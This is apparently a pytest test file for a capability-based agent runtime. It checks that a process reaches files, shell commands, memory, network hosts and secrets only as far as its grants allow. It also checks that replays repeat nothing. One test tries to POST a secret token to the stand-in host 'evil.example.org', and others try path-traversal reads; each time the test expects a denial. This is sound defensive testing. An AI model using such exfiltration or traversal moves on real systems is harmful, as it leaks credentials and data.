"""A process reaches the world through its primitives alone, as far as its capabilities go, and never twice."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from primitives_world import CountingHttp, CountingShell, drive, workspace

from terret.journal import Denied, Intent, encode_event
from terret.permissions import CapabilityTable
from terret.runtime.primitives import Faulty, KeptTexts, ProcessPrimitives, Providers, Secret, Snapshots
from terret.tools import ToolFailure


def granted(*grants: tuple[str, str], deny: tuple[tuple[str, str], ...] = ()) -> CapabilityTable:
    table = CapabilityTable("host")
    for resource, rights in grants:
        table.grant(resource, rights.split(), depth=3)
    for resource, rights in deny:
        table.grant(resource, rights.split(), "deny")
    return table


async def tried(attempt: Any) -> Any:
    try:
        return await attempt
    except ToolFailure as failure:
        return f"{failure.kind}: {failure.message}"


def test_files_are_reached_where_a_capability_reaches_and_nowhere_else(tmp_path: Path) -> None:
    files = workspace(tmp_path / "w")
    table = granted(("fs:src/**", "read write list"), deny=(("fs:src/secret/**", "read list write"),))

    async def body(own: ProcessPrimitives) -> list[Any]:
        await own.write("src/new.py", b"y = 2\n")
        return [
            (await own.read("src/a.py")).decode(),
            (await own.read("src/new.py")).decode(),
            await tried(own.read("src2/b.py")),
            await tried(own.read("src/../src2/b.py")),
            await tried(own.read("../outside")),
            await tried(own.read("src/secret/key.txt")),
            await tried(own.delete("src/a.py")),
            sorted(entry.path for entry in await own.list("src", 3)),
            await tried(own.list(".", 1)),
        ]

    end, events = drive(tmp_path / "j", Providers(files=files), table, body)
    assert end.status == "exited"
    assert isinstance(end.result, list)
    first, new, other, dotted, outside, secret, deleted, listed, root = end.result
    assert (first, new) == ("x = 1\n", "y = 2\n")
    assert all("no capability allows read on fs:src2/b.py" in text for text in (other, dotted))
    assert outside.startswith("denied: ")
    assert "denies read" in secret
    assert "no capability allows delete" in deleted
    assert listed == ["src/a.py", "src/new.py", "src/secret"]
    assert root.startswith("denied: ")
    assert (files.root / "src/a.py").exists()
    denied = [event.data.args["path"] for event in events if isinstance(event.data, Denied)]
    assert denied == ["src2/b.py", "src/../src2/b.py", "../outside", "src/secret/key.txt", "src/a.py", "."]
    assert [event.data.args["malformed"] for event in events if "malformed" in getattr(event.data, "args", {})]


def test_a_command_takes_the_whole_workspace_and_nothing_in_it_may_be_kept_from_the_process(tmp_path: Path) -> None:
    shell = CountingShell({"rg ": b"./src/a.py\x001:x\nsrc/secret/key.txt\x001:x\nnotes.md\x003:x\n"})
    providers = Providers(files=workspace(tmp_path / "w"), shell=shell)

    async def body(own: ProcessPrimitives) -> list[Any]:
        done = await tried(own.run("git status"))
        found = await tried(own.search("x", ".", None, 5))
        return [getattr(done, "exit_code", done), found if isinstance(found, str) else found.output.decode()]

    part = granted(("fs:src/**", "read write"), ("shell:git", "execute"))
    result = drive(tmp_path / "a", providers, part, body)[0].result
    assert isinstance(result, list)
    assert "no capability allows read on the whole workspace" in result[0]
    kept = granted(("fs:**", "read write"), ("shell:git", "execute"), deny=(("fs:src/secret/**", "read"),))
    end, events = drive(tmp_path / "b", providers, kept, body)
    assert isinstance(end.result, list)
    assert "fs:src/secret/** denies read" in end.result[0]
    assert end.result[1] == "./src/a.py:1:x\nnotes.md:3:x\n"
    assert [event.data.primitive for event in events if isinstance(event.data, Denied)] == ["shell.run"]
    whole = granted(("fs:**", "read write"), ("shell:git", "execute"))
    result = drive(tmp_path / "c", providers, whole, body)[0].result
    assert isinstance(result, list)
    assert result[0] == 0
    assert [command.run for command in shell.commands if not command.run.startswith("rg ")] == ["git status"]


def test_memory_is_private_unless_a_capability_says_otherwise(tmp_path: Path) -> None:
    table = granted(("memory:own/**", "read write delete"), ("memory:shared/**", "read"), ("process:child", "spawn"))

    async def child(own: ProcessPrimitives) -> list[Any]:
        return [
            await own.recall("own/plan"),
            await tried(own.recall("p1/plan")),
            await tried(own.remember("shared/plan", "mine")),
            await tried(own.recall("plan")),
        ]

    async def body(own: ProcessPrimitives) -> Any:
        await own.remember("own/plan", "the parent's")
        pid = await own.seat.fork(image="child")
        end = await own.seat.wait_child(pid)
        mine = await own.recall("own/plan")
        await own.forget("own/plan")
        return [mine, await own.recall("own/plan"), end.result]

    end, _ = drive(tmp_path / "j", Providers(), table, body, children={"child": child})
    assert isinstance(end.result, list)
    assert end.result[:2] == ["the parent's", None]
    nothing, other, shared, bare = end.result[2]
    assert nothing is None
    assert "no capability allows read on memory:p1/plan" in other
    assert "no capability allows write on memory:shared/plan" in shared
    assert bare.startswith("bad_arguments: ")


def test_a_secret_goes_to_its_own_host_and_is_nowhere_else(tmp_path: Path) -> None:
    http = CountingHttp()
    secrets = {"token": Secret("s3cret-value-1234", ("api.example.org",)), "other": Secret("zzz-999999", ("x.org",))}
    table = granted(
        ("net:api.example.org/*", "call read"), ("net:evil.example.org/*", "call"), ("secret:token", "read")
    )

    async def body(own: ProcessPrimitives) -> list[Any]:
        mark = await own.secret("token")
        headers = {"authorization": f"Bearer {mark}"}
        reply = await own.request("POST", "https://api.example.org/a", body="hello", headers=headers)
        return [
            mark,
            reply.body.decode(),
            await tried(own.request("POST", "https://evil.example.org/", body=mark)),
            await tried(own.request("POST", "https://api.example.org:81/", body="{{secret:other}}")),
            await tried(own.secret("other")),
            await tried(own.request("GET", "https://elsewhere.org/")),
        ]

    end, events = drive(tmp_path / "j", Providers(http=http, secrets=secrets), table, body)
    assert isinstance(end.result, list)
    mark, echoed, evil, foreign, unseen, elsewhere = end.result
    assert len(http.requests) == 1
    assert http.requests[0].headers["authorization"] == "Bearer s3cret-value-1234"
    assert echoed == f"authorization: Bearer {mark}\nhello"
    assert "not for this host" in evil
    assert "no capability allows read on secret:other" in foreign
    assert "no capability allows read on secret:other" in unseen
    assert "no capability allows read on net:elsewhere.org/443" in elsewhere
    assert b"s3cret-value-1234" not in b"".join(encode_event(event) for event in events)


def test_a_process_that_is_taken_up_again_repeats_nothing_and_sees_the_same(tmp_path: Path) -> None:
    http, shell, memory, times = CountingHttp(), CountingShell(), KeptTexts(), iter([5.0, 6.0, 7.0])
    files = workspace(tmp_path / "w")
    providers = Providers(
        files=files, shell=shell, http=http, memory=memory, checkpoints=Snapshots(files), clock=lambda: next(times)
    )
    grants = (
        ("fs:**", "read write list delete"),
        ("shell:make", "execute"),
        ("net:h/*", "call"),
        ("clock:now", "read"),
    )
    more = (("memory:own/**", "read write"), ("checkpoint:workspace", "write call"), ("workspace:diff", "read"))
    stop = [True]

    async def body(own: ProcessPrimitives) -> list[Any]:
        name = await own.checkpoint()
        await own.write("src/a.py", b"x = 9\n")
        seen: list[Any] = [(await own.read("src/a.py")).decode(), await own.now(), (await own.run("make")).exit_code]
        seen.append((await own.request("POST", "http://h/", body="b", once=True)).status)
        await own.remember("own/k", "v")
        seen += [await own.recall("own/k"), "x = 9" in await own.diff()]
        await own.restore(name)
        if stop[0]:
            raise RuntimeError("the machine stops here")
        return [*seen, (await own.read("src/a.py")).decode()]

    first, _ = drive(tmp_path / "j", providers, granted(*grants, *more), body)
    assert first.status == "failed"
    fresh = tmp_path / "k"
    stop[0] = False
    end, events = drive(fresh, providers, granted(*grants, *more), body)
    counts = (len(http.requests), len(shell.commands))
    assert end.result == ["x = 9\n", 6.0, 0, 200, "v", True, "x = 1\n"]
    again, more_events = drive(fresh, providers, granted(*grants, *more), body)
    assert again.result == end.result
    assert (len(http.requests), len(shell.commands)) == counts
    keys = [event.data.key for event in events if isinstance(event.data, Intent) and event.data.key]
    assert len(set(keys)) == 1
    assert len(more_events) == len(events)


@pytest.mark.parametrize("after", [False, True])
def test_a_provider_that_fails_is_a_fault_and_what_it_did_stays_done(tmp_path: Path, after: bool) -> None:
    memory = KeptTexts()
    faulty: Any = Faulty(memory, {"write": {2: ToolFailure("no_space", "the disk is full")}}, after=after)
    table = granted(("memory:own/**", "read write"))

    async def body(own: ProcessPrimitives) -> list[Any]:
        await own.remember("own/a", "1")
        return [await tried(own.remember("own/b", "2")), await own.recall("own/b"), await own.recall("own/a")]

    end, _ = drive(tmp_path / "j", Providers(memory=faulty), table, body)
    assert end.result == ["no_space: the disk is full", "2" if after else None, "1"]


def test_what_is_not_there_is_said_to_be_missing(tmp_path: Path) -> None:
    async def body(own: ProcessPrimitives) -> list[Any]:
        return [await tried(own.read("a")), await tried(own.run("ls")), await tried(own.checkpoint())]

    result = drive(tmp_path / "j", Providers(), granted(("fs:**", "read")), body)[0].result
    assert result == [f"unavailable: there is no {part} here" for part in ("file system", "shell", "workspace")]
